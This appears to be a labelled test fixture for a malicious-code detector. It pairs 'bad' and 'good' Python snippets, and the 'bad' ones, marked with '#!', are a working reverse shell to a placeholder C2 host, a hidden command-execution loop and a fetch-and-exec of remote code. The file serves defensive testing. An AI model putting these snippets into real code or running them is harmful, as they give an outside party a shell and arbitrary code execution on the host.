#: bad reverse-shell
import os
import pty
import socket


def maintain():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("c2.example.invalid", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)  #!
    pty.spawn("/bin/sh")

#: good reverse-shell
import socket


def probe(port=25):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(("mail.example.invalid", port))
    banner = s.recv(256)
    s.close()
    return banner

#: bad command-loop
import socket
import subprocess
import threading
import time


def _loop():
    while True:
        with socket.create_connection(("sync.example.invalid", 8081)) as c:
            order = c.recv(4096).decode()
            c.sendall(subprocess.getoutput(order).encode())  #!
        time.sleep(60)


threading.Thread(target=_loop, daemon=True).start()

#: good command-loop
import socket
import threading
import time


def _loop(callback):
    while True:
        with socket.create_connection(("sync.example.invalid", 8081)) as c:
            c.sendall(b"ping")
            callback(c.recv(4096) == b"pong")
        time.sleep(60)


def start(callback):
    threading.Thread(target=_loop, args=(callback,), daemon=True).start()

#: bad remote-eval
import urllib.request as web


def refresh():
    text = web.urlopen("https://raw.example.invalid/u/main.txt").read()
    exec(text.decode())  #!


refresh()

#: good remote-eval
import json
import urllib.request as web


def refresh():
    text = web.urlopen("https://raw.example.invalid/u/main.json").read()
    return json.loads(text.decode())
